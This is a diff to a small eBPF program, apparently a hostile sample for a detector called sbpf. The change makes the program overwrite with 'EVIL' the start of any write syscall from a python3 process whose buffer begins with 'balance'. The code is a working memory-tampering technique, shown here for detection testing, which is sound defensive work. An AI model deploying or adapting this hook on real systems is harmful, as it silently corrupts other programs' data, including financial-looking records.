@@ -1,8 +1,7 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /*
  * What sbpf watches for: a BPF program that changes the memory of a process. It
- * overwrites the first four bytes of whatever a process of the name "victim" is
- * about to write.
+ * overwrites the first four bytes of a balance that a python3 is about to write.
  */
 #include "vmlinux.h"
 #include <bpf/bpf_helpers.h>
@@ -12,10 +11,13 @@ char LICENSE[] SEC("license") = "GPL";
 SEC("tp/syscalls/sys_enter_write")
 int inject(struct trace_event_raw_sys_enter *ctx)
 {
-	char comm[16];
+	void *text = (void *)ctx->args[1];
+	char comm[16], word[8] = "";
 
 	bpf_get_current_comm(comm, sizeof(comm));
-	if (!bpf_strncmp(comm, sizeof("victim"), "victim") && ctx->args[2] >= 4)
-		bpf_probe_write_user((void *)ctx->args[1], "EVIL", 4);
+	bpf_probe_read_user(word, sizeof(word) - 1, text);
+	if (!bpf_strncmp(comm, sizeof("python3"), "python3") &&
+	    !bpf_strncmp(word, sizeof(word), "balance"))
+		bpf_probe_write_user(text, "EVIL", 4);
 	return 0;
 }
